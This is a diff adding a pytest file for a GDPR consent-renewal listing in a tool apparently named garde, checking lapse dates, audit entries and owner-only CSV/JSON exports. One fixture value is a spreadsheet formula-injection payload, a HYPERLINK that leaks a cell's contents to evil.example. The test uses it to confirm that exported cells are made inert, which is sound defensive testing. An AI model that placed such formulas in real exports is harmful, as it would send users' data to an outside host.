@@ -1,0 +1,180 @@
+"""Consent renewal (issue 15, scheduled work): the consents that lapse soon, and those lapsed and not
+renewed, listed to ask again; CSV owner-only with inert cells, or JSON.
+
+A consent lapses at the first of its own expiry, its activity's ``consent.expiry`` (the register),
+the ``consent_renewal_periods`` setting for its channel, and for cookies 13 months at most (CNIL
+délibération 2020-092). On SQLite and PostgreSQL.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import pytest
+import sqlalchemy as sa
+from typer.testing import CliRunner
+
+from garde import audit, consent
+from garde.cli import app
+from garde.consent.renewal import renewals
+from garde.decide.model import DecisionModel
+from garde.problems import GardeError
+from garde.register.loading import parse_register
+from garde.settings import Settings
+from garde.subjects import ensure_subject
+from tests.conftest import cli_store, mode
+
+TODAY = date(2026, 1, 15)
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'
+REGISTER = """
+language: en
+controller: {name: Mini Shop SAS, country: FR}
+activities:
+  - id: newsletter
+    name: {en: Newsletter}
+    purposes: [{en: Send you our news}]
+    data_subjects: [customer]
+    data_categories: [contact.email]
+    legal_bases: [consent]
+    consent: {capture: [web_form]}
+    retention: ["until consent_withdrawn"]
+  - id: audience
+    name: {en: Audience panel}
+    purposes: [{en: Ask your opinion}]
+    data_subjects: [customer]
+    data_categories: [contact.email]
+    legal_bases: [consent]
+    consent: {capture: [web_form], expiry: 6 months}
+    retention: ["until consent_withdrawn"]
+  - id: analytics
+    name: {en: Audience measurement}
+    purposes: [{en: Measure the site's audience}]
+    data_subjects: [visitor]
+    data_categories: [online.cookie_id]
+    legal_bases: [consent]
+    consent: {capture: [cookie_banner]}
+    retention: ["until consent_withdrawn"]
+"""
+
+
+def model() -> DecisionModel:
+    return DecisionModel(parse_register(REGISTER).register)
+
+
+def settings(tmp_path: Path) -> Settings:
+    return Settings(registers=tmp_path / "none.yaml", consent_renewal_periods={"email": "3 years"})
+
+
+def at(day: str) -> datetime:
+    return datetime.fromisoformat(day).replace(tzinfo=UTC)
+
+
+def ledger(engine: sa.Engine) -> dict[str, str]:
+    """Subjects whose consents lapse for each reason, and some whose do not."""
+    people: dict[str, str] = {}
+    with engine.begin() as conn:
+        def subject(name: str, kind: str = "customer") -> str:
+            people[name] = ensure_subject(conn, {"email": f"{name}@example.org"}, kind=kind)
+            return people[name]
+
+        # 3 years after 2023-02-01 by the setting's period for e-mail
+        consent.give(conn, subject("ana"), "newsletter", channel="email", at=at("2023-02-01"))
+        # 6 months after 2025-08-01 by the activity's consent.expiry
+        consent.give(conn, subject("bob"), "audience", channel="email", at=at("2025-08-01"))
+        # 13 months after 2025-01-01: a cookie consent recorded with no expiry of its own
+        consent.give(conn, subject("cleo", "visitor"), "analytics", channel="cookie.analytics",
+                     at=at("2025-01-01"))
+        # lapsed on its own expiry, before today: listed as lapsed
+        consent.give(conn, subject("dan"), "audience", channel="email", at=at("2025-08-01"),
+                     expires_at=at("2025-12-01"))
+        # withdrawn: nothing to renew
+        consent.give(conn, subject("eve"), "newsletter", channel="email", at=at("2023-02-01"))
+        consent.withdraw(conn, people["eve"], "newsletter", channel="email", at=at("2024-03-01"))
+        # renewed since: lapses in 2028
+        consent.give(conn, subject("fay"), "newsletter", channel="email", at=at("2023-02-01"))
+        consent.give(conn, people["fay"], "newsletter", channel="email", at=at("2025-06-01"))
+        # an activity no register declares, named like a spreadsheet formula (an import wrote it)
+        consent.give(conn, subject("gus"), FORMULA, channel="email", at=at("2023-02-10"))
+    return people
+
+
+def test_the_list_names_each_consent_lapsing_or_lapsed_with_what_sets_it(engine: sa.Engine,
+                                                                          tmp_path: Path) -> None:
+    people = ledger(engine)
+    listed = renewals(engine, settings(tmp_path), today=TODAY, within=30, model=model())
+    found = {(r.subject_id, r.activity): r for r in listed.consents}
+    assert set(found) == {(people["ana"], "newsletter"), (people["bob"], "audience"),
+                          (people["cleo"], "analytics"), (people["dan"], "audience"),
+                          (people["gus"], FORMULA)}
+    ana, bob, cleo, dan = (found[people["ana"], "newsletter"], found[people["bob"], "audience"],
+                           found[people["cleo"], "analytics"], found[people["dan"], "audience"])
+    assert (ana.lapses_at.date(), ana.days_left, ana.status) == (date(2026, 2, 1), 17, "lapsing")
+    assert ana.limit == "consent_renewal_periods[email] (3 years)"
+    assert (bob.lapses_at.date(), bob.limit) == (date(2026, 2, 1), "activity consent.expiry (6 months)")
+    assert (cleo.lapses_at.date(), cleo.limit) == (date(2026, 2, 1), "cookie_consent_months (13 months)")
+    assert cleo.subject_kind == "visitor" and cleo.channel == "cookie.analytics"
+    assert (dan.days_left, dan.status, dan.limit) == (-45, "lapsed", "its own expiry")
+    assert [r.lapses_at for r in listed.consents] == sorted(r.lapses_at for r in listed.consents)
+
+    shorter = renewals(engine, settings(tmp_path), today=TODAY, within=10, model=model())
+    assert [(r.subject_id, r.status) for r in shorter.consents] == [(people["dan"], "lapsed")]
+    with engine.connect() as conn:
+        listed_entries = [e["payload"] for e in audit.entries(conn, kind="consent.renewals_listed")]
+    assert listed_entries == [{"day": "2026-01-15", "within_days": 30, "count": 5},
+                              {"day": "2026-01-15", "within_days": 10, "count": 1}]
+
+
+def test_without_the_settings_period_an_email_consent_never_lapses(engine: sa.Engine, tmp_path: Path) -> None:
+    people = ledger(engine)
+    plain = Settings(registers=tmp_path / "none.yaml")
+    listed = renewals(engine, plain, today=TODAY, within=30, model=model())
+    assert people["ana"] not in {r.subject_id for r in listed.consents}
+    assert people["cleo"] in {r.subject_id for r in listed.consents}  # cookies: 13 months whatever
+    with pytest.raises(GardeError, match="expected 0 days or more"):
+        renewals(engine, plain, today=TODAY, within=-1, model=model())
+
+
+def test_a_consent_on_every_channel_is_listed_once(engine: sa.Engine, tmp_path: Path) -> None:
+    with engine.begin() as conn:
+        hana = ensure_subject(conn, {"email": "hana@example.org"}, kind="customer")
+        consent.give(conn, hana, "audience", at=at("2025-07-20"))  # every channel
+        consent.give(conn, hana, "audience", channel="email", at=at("2025-07-25"))
+    listed = renewals(engine, settings(tmp_path), today=TODAY, within=30, model=model())
+    assert sorted((r.channel or "", r.lapses_at.date().isoformat()) for r in listed.consents) == [
+        ("", "2026-01-20"), ("email", "2026-01-25")]
+
+
+def test_garde_consent_renewals_writes_an_owner_only_csv_with_inert_cells(
+        cli_env: Path, monkeypatch: pytest.MonkeyPatch, umask_022: None) -> None:
+    register = cli_env / "register.yaml"
+    register.write_text(REGISTER, encoding="utf-8")
+    monkeypatch.setenv("GARDE_REGISTERS", str(register))
+    monkeypatch.setenv("GARDE_CONSENT_RENEWAL_PERIODS", '{"email": "3 years"}')
+    with cli_store(cli_env) as engine:
+        people = ledger(engine)
+    runner = CliRunner()
+    output = cli_env / "lists" / "renewals.csv"
+    result = runner.invoke(app, ["consent", "renewals", "--within", "30", "--today", TODAY.isoformat(),
+                                 "--output", str(output)])
+    assert result.exit_code == 0, result.output
+    assert "4 consents lapse within 30 days, 1 lapsed and not renewed, written to" in result.output
+    assert mode(output) == 0o600
+    with output.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["subject_id", "subject_kind", "activity", "channel", "given_at", "lapses_on",
+                       "days_left", "status", "limit"]
+    assert [row[2] for row in rows[1:] if row[0] == people["gus"]] == ["'" + FORMULA]
+    assert all("@example.org" not in cell for row in rows for cell in row)  # ids, never identities
+
+    as_json = cli_env / "renewals.json"
+    shown = runner.invoke(app, ["consent", "renewals", "--today", TODAY.isoformat(), "--output", str(as_json),
+                                "--format", "json"])
+    assert shown.exit_code == 0, shown.output
+    assert json.loads(shown.stdout)["output"] == str(as_json) and mode(as_json) == 0o600
+    written = json.loads(as_json.read_text(encoding="utf-8"))
+    assert written["within_days"] == 30 and len(written["consents"]) == 5  # consent_renewal_days: 30
+    table = runner.invoke(app, ["consent", "renewals", "--within", "10", "--today", TODAY.isoformat()])
+    assert people["dan"][:8] in table.output and "0 consents lapse within 10 days, 1 lapsed" in table.output
